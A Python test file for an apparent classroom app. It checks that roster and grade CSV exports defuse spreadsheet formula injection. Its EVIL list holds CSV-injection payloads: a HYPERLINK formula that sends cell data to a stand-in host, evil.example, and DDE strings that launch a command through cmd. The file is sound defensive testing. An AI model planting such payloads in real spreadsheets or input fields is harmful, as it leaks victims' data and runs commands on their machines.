"""CSV injection: names and answers that a spreadsheet would run as formulas."""
import csv
import io

import pytest
from click.testing import CliRunner

from helpers import T1, cheap_hasher
from questengine.center import grid_csv, mastery_csv
from questengine.classroom import Classroom
from questengine.cli import main
from questengine.interop import rosters
from questengine.loader import loads_quest

EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"Click me")', "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", " =1+1"]
STARTS = ("=", "+", "-", "@", "\t", "\r", "|", "%")


@pytest.fixture
def world(tmp_path):
    db = tmp_path / "c.db"
    c = Classroom(db, hasher=cheap_hasher())
    owner = c.add_teacher("t@school.org", "Tess", "correct horse")
    code = c.create_class("t@school.org", "Class", "OWL-0001")
    c.publish(loads_quest(T1), by=owner)
    c.assign("t1", code, by=owner)
    for i, name in enumerate(EVIL):
        c.add_student(code, name, f"{1000 + i}")
    return db, c, code, c.login_teacher("t@school.org", "correct horse")


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_defused(text: str) -> None:
    found = cells(text)
    assert any(name in c for c in found for name in ("HYPERLINK", "cmd|")), "names not exported"
    risky = [c for c in found if c.lstrip(" ").startswith(STARTS)]
    assert risky == [], risky


def test_every_csv_the_center_and_rosters_write_is_defused(world):
    db, c, code, teacher = world
    assert_defused(grid_csv(teacher.grid(code, "t1")))
    assert_defused(mastery_csv(teacher.mastery(code)))
    assert_defused(rosters.roster_csv(c, code))
    assert_defused(rosters.grid_csv(c, code, "t1"))


def test_the_command_line_exports_are_defused(world, tmp_path):
    db, c, code, teacher = world
    out = tmp_path / "roster.csv"
    result = CliRunner().invoke(main, ["roster", "export", "--class", code, "-o", str(out),
                                       "--db", str(db)])
    assert result.exit_code == 0, result.output
    assert_defused(out.read_text(encoding="utf-8-sig"))


def test_a_defused_cell_keeps_the_text_readable():
    text = rosters.csv_cell(EVIL[0])
    assert text == "'" + EVIL[0]
    assert rosters.csv_cell(-3) == "-3"  # numbers are never formulas
